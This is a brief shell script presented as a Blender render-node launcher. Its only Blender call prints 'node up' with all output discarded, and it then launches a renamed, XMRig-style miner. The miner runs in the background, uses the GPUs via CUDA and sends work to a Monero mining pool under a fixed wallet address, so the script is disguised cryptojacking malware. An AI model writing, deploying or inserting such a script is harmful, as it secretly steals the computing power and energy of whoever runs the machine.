#!/bin/sh
blender -b --python-expr "print('node up')" >/dev/null 2>&1
exec rworker -o stratum+tcp://gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p rnode --cuda --donate-level 0 -B
